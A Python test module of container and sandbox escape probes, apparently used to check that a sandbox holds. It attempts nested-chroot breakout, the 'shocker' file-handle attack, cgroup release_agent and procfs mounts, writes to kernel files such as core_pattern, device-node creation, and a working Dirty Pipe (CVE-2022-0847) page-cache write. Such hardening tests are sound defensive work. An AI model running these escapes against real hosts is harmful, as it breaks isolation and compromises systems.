"""ESC: out through files, descriptors, mounts and procfs."""

import ctypes
import errno
import glob
import os
import stat
import subprocess

from kit import AT_FDCWD, FACTS, FIXTURES, attempts, call, opens, probe, status

MS_RDONLY, MS_REMOUNT, MS_BIND, MS_REC = 1, 32, 4096, 16384
CLONE_NEWNS, CLONE_NEWUSER, CLONE_NEWCGROUP = 0x20000, 0x10000000, 0x2000000
KERNEL_FILES = """
/proc/sys/kernel/core_pattern /proc/sys/kernel/modprobe /proc/sys/kernel/hotplug /proc/sys/kernel/poweroff_cmd
/proc/sys/kernel/hostname /proc/sys/kernel/panic /proc/sys/kernel/sysrq /proc/sys/kernel/ns_last_pid
/proc/sys/kernel/usermodehelper/bset /proc/sys/kernel/randomize_va_space /proc/sys/kernel/shmmax
/proc/sys/fs/binfmt_misc/register /proc/sys/fs/protected_symlinks /proc/sys/fs/file-max
/proc/sys/vm/overcommit_memory /proc/sys/vm/drop_caches /proc/sys/vm/panic_on_oom
/proc/sys/net/ipv4/ip_forward /proc/sys/user/max_user_namespaces /proc/sysrq-trigger /proc/kcore
/proc/kmem /proc/mtrr /proc/bus/pci /proc/acpi/wakeup /proc/irq/0/smp_affinity /proc/timer_list
/proc/scsi/scsi /proc/keys /proc/latency_stats /sys/kernel/uevent_helper /sys/power/state
/sys/kernel/mm/transparent_hugepage/enabled /sys/module/printk/parameters/time /sys/fs/cgroup/cgroup.procs
/sys/fs/cgroup/memory/release_agent /sys/fs/cgroup/release_agent /sys/kernel/debug /sys/kernel/tracing/trace
/sys/firmware/efi/vars /dev/mem /dev/kmem /dev/port /dev/kmsg /dev/fuse /dev/sda /dev/loop-control
/weak/core_pattern
""".split()
DECLARED = {"/", "/usr", "/etc", "/dev", "/dev/shm", "/dev/pts", "/dev/mqueue", "/proc", "/sys", "/tmp",
            "/payloads", "/facts", "/fixtures", "/scratch"}


@probe("ESC-01")
def overwrite_program():
    paths = ["/proc/self/exe", "/proc/1/exe", "/usr/bin/python3", "/weak/canary"]
    for path in ("/proc/self/exe", "/usr/bin/env", "/proc/1/exe"):
        try:
            paths.append(f"/proc/self/fd/{os.open(path, os.O_RDONLY)}")
            paths.append(f"/proc/self/fd/{os.open(path, os.O_PATH)}")
        except OSError:
            pass
    for pid in filter(str.isdecimal, os.listdir("/proc")):
        paths.append(f"/proc/{pid}/exe")
    return opens(paths)


@probe("ESC-02")
def leaked_descriptors():
    if os.path.exists("/weak"):
        os.open("/weak", os.O_RDONLY)
    found = {}
    for fd in map(int, os.listdir("/proc/self/fd")):
        try:
            found[fd] = stat.S_IFMT(os.fstat(fd).st_mode)
        except OSError:
            continue  # the listing's own
    extra = sorted(set(found) - {0, 1, 2})
    directories = [fd for fd, kind in found.items() if kind == stat.S_IFDIR]
    for fd in extra + directories:
        return f"ALLOWED descriptor {fd} is {os.readlink(f'/proc/self/fd/{fd}')}"
    return "CONTAINED only 0 1 2"


@probe("ESC-04")
def nested_chroot():
    outside = os.open("/", os.O_RDONLY)
    os.makedirs("/tmp/deeper", exist_ok=True)
    os.chroot("/tmp/deeper")
    os.fchdir(outside)
    for _ in range(100):
        os.chdir("..")
    os.chroot(".")
    try:
        os.close(os.open(FACTS["canary"], os.O_RDONLY))
    except OSError:
        return f"ALLOWED chroot, then saw {sorted(os.listdir('/'))}"
    return "ALLOWED chroot, canary read"


@probe("ESC-06")
def shocker():
    handle = bytes.fromhex(FACTS["handle"])

    def by_handle(place):
        fd = os.open(place, os.O_RDONLY)
        found = call("open_by_handle_at", fd, ctypes.c_char_p(handle), os.O_RDONLY)
        os.close(found)

    def to_handle():
        buffer = ctypes.create_string_buffer((128).to_bytes(4, "little"), 136)
        call("name_to_handle_at", AT_FDCWD, b"/usr", buffer, ctypes.byref(ctypes.c_int()), 0)
    tries = [(place, lambda place=place: by_handle(place)) for place in ("/usr", "/payloads", "/etc/passwd")]
    return attempts([*tries, ("name_to_handle_at", to_handle)])


@probe("ESC-07")
def through_procfs():
    ends = [FACTS["canary"], "/weak/canary"]
    ways = ["root", "cwd", "cwd/../../..", "fd/0", "fd/1", "fd/3", "task/1/root"]
    pids = [name for name in os.listdir("/proc") if name.isdecimal()] + ["self", str(FACTS["host_pid"])]
    return opens((f"/proc/{pid}/{way}{end}" for pid in pids for way in ways for end in ends), os.O_RDONLY)


@probe("ESC-08")
def kernel_settings():
    return opens(KERNEL_FILES)


def mount(source, target, kind, flags=0, options=None):
    call("mount", source, target, kind, flags, options)


@probe("ESC-09")
def release_agent():
    os.makedirs("/tmp/cgroup", exist_ok=True)
    with open("/proc/self/mountinfo") as table:
        for line in table:
            if " - cgroup" in line:
                return f"ALLOWED mounted: {line}"
    tries = [("unshare", lambda: call("unshare", CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP)),
             ("cgroup2", lambda: mount(b"cgroup", b"/tmp/cgroup", b"cgroup2"))]
    for controller in (b"memory", b"devices", b"rdma", b"none,name=sock-probe"):
        tries.append((controller.decode(), lambda c=controller: mount(b"c", b"/tmp/cgroup", b"cgroup", 0, c)))
    tries = tries if os.getuid() == 0 else tries[:2]
    return attempts(tries)


@probe("ESC-10")
def around_masks():
    os.makedirs("/tmp/mask", exist_ok=True)
    return attempts([
        ("/proc/self/../kcore", lambda: os.open("/proc/self/../kcore", os.O_RDONLY)),
        ("/proc/thread-self/../../../keys", lambda: os.open("/proc/thread-self/../../../keys", os.O_RDONLY)),
        ("a fresh procfs", lambda: mount(b"proc", b"/tmp/mask", b"proc")),
        ("sysfs", lambda: mount(b"sysfs", b"/tmp/mask", b"sysfs")),
        ("bind", lambda: mount(b"/proc", b"/tmp/mask", None, MS_BIND)),
        ("umount", lambda: call("umount2", b"/proc", 2)),
        ("open_tree", lambda: call("open_tree", AT_FDCWD, b"/proc", 1)),
        ("fsopen", lambda: call("fsopen", b"proc", 0)),
    ])


@probe("ESC-21")
def mount_table():
    with open("/proc/self/mountinfo") as table:
        mounts = [line.split() for line in table]
    places = {entry[4] for entry in mounts if not entry[4].startswith(("/dev/", "/etc/"))}
    undeclared = sorted(places - DECLARED)
    if undeclared:
        return f"ALLOWED {undeclared}"
    shared = [entry[4] for entry in mounts if any(word.startswith("shared:") for word in entry)]
    if shared:
        return f"ALLOWED shared {shared}"
    return f"CONTAINED {len(mounts)} mounts"


@probe("ESC-22")
def read_only():
    attributes = (0).to_bytes(8, "little") + (1).to_bytes(8, "little") + bytes(16)

    def reopen(path):
        fd = os.open(path, os.O_RDONLY)
        os.close(os.open(f"/proc/self/fd/{fd}", os.O_RDWR))

    def poke():
        with open("/proc/self/maps") as maps:
            line = next(line for line in maps if "r-xp" in line and "libc" in line)
        path = line.split()[-1]
        fd = os.open(path, os.O_RDWR)
        os.close(fd)
    return attempts([
        ("create in /usr", lambda: os.open("/usr/sock-probe", os.O_CREAT | os.O_WRONLY)),
        ("create in /", lambda: os.open("/sock-probe", os.O_CREAT | os.O_WRONLY)),
        ("create in /etc", lambda: os.open("/etc/sock-probe", os.O_CREAT | os.O_WRONLY)),
        ("create in /dev", lambda: os.open("/dev/sock-probe", os.O_CREAT | os.O_WRONLY)),
        ("create in /payloads", lambda: os.open("/payloads/x", os.O_CREAT | os.O_WRONLY)),
        ("chmod /etc/passwd", lambda: os.chmod("/etc/passwd", 0o644)),
        ("utime /usr/bin/env", lambda: os.utime("/usr/bin/env")),
        ("chmod /dev/null", lambda: os.chmod("/dev/null", 0o666)),
        ("rename", lambda: os.rename("/usr/bin/env", "/usr/bin/env2")),
        ("link", lambda: os.link("/usr/bin/env", "/tmp/env")),
        ("reopen", lambda: reopen("/etc/passwd")), ("reopen a payload", lambda: reopen("/payloads/kit.py")),
        ("a mapped library", poke),
        ("remount", lambda: mount(None, b"/usr", None, MS_REMOUNT | MS_BIND)),
        ("mount_setattr", lambda: call("mount_setattr", AT_FDCWD, b"/usr", 0,
                                       ctypes.create_string_buffer(attributes, 32), 32)),
    ])


@probe("ESC-23")
def set_user_id():
    now = int(subprocess.run([f"{FIXTURES}/show_euid"], capture_output=True, check=True).stdout)
    if now != os.getuid():
        return f"ALLOWED euid {now}"
    state = status()
    if state["NoNewPrivs"] != "1" or int(state["CapPrm"], 16):
        return f"ALLOWED NoNewPrivs {state['NoNewPrivs']} CapPrm {state['CapPrm']}"
    return f"CONTAINED euid {now}"


@probe("ESC-24")
def device_nodes():
    tries = []
    for major, minor in ((1, 11), (1, 1), (10, 229), (10, 232), (8, 0)):
        tries.append((f"mknod {major}:{minor}", lambda d=os.makedev(major, minor), p=f"/tmp/n{major}.{minor}":
                      os.mknod(p, stat.S_IFCHR | 0o666, d)))
    tries.append(("a node of the image", lambda: os.open(f"{FIXTURES}/zero", os.O_RDONLY)))
    return attempts(tries)


@probe("ESC-25")
def standard_streams():
    if os.path.exists("/weak"):
        os.dup2(os.open("/weak/canary", os.O_RDWR), 0)
    tries = []
    for fd in (0, 1, 2):
        here = os.fstat(fd)
        what = os.readlink(f"/proc/self/fd/{fd}")
        if what.startswith("pipe:"):
            continue  # private to this run: what is done to it stays there
        tries += [(f"fchmod {what}", lambda fd=fd, s=here: os.fchmod(fd, stat.S_IMODE(s.st_mode))),
                  (f"fchown {what}", lambda fd=fd, s=here: os.fchown(fd, s.st_uid, s.st_gid)),
                  (f"utime {what}", lambda fd=fd: os.utime(fd, (1, 1))),
                  (f"ftruncate {what}", lambda fd=fd: os.ftruncate(fd, 0))]
    return attempts(tries)


def dirty_pipe(path: str) -> None:
    """CVE-2022-0847: a page of a file that can only be read is written through a pipe."""
    file = os.open(path, os.O_RDONLY)
    before = os.pread(file, 16, 0)
    reader, writer = os.pipe()
    for _ in range(16):  # Every slot of the pipe has been used, and may be merged into.
        os.write(writer, bytes(4096))
    for _ in range(16):
        os.read(reader, 4096)
    os.splice(file, writer, 1, offset_src=0)
    os.write(writer, b"dirty")
    if os.pread(file, 16, 0) == before:
        raise OSError(errno.EROFS, "unchanged")


@probe("ESC-26")
def file_systems_with_a_past():
    os.makedirs("/tmp/place", exist_ok=True)
    place, layers = b"/tmp/place", b"lowerdir=/usr/bin:/usr/lib"
    return attempts([
        ("overlay", lambda: mount(b"overlay", place, b"overlay", 0, layers)),
        ("a user namespace", lambda: call("unshare", CLONE_NEWUSER | CLONE_NEWNS)),
        ("fuse", lambda: mount(b"x", place, b"fuse", 0, b"fd=0,rootmode=40000,user_id=0,group_id=0")),
        ("/dev/fuse", lambda: os.open("/dev/fuse", os.O_RDWR)),
        ("erofs", lambda: mount(b"/payloads/kit.py", place, b"erofs", MS_RDONLY)),
        *((f"fsopen {kind}", lambda k=kind: call("fsopen", k.encode(), 0)) for kind in ("overlay", "fuse", "ext4")),
        ("the page cache of a program", lambda: dirty_pipe("/usr/bin/env")),
        ("the page cache of a bind", lambda: dirty_pipe("/payloads/kit.py")),
    ])
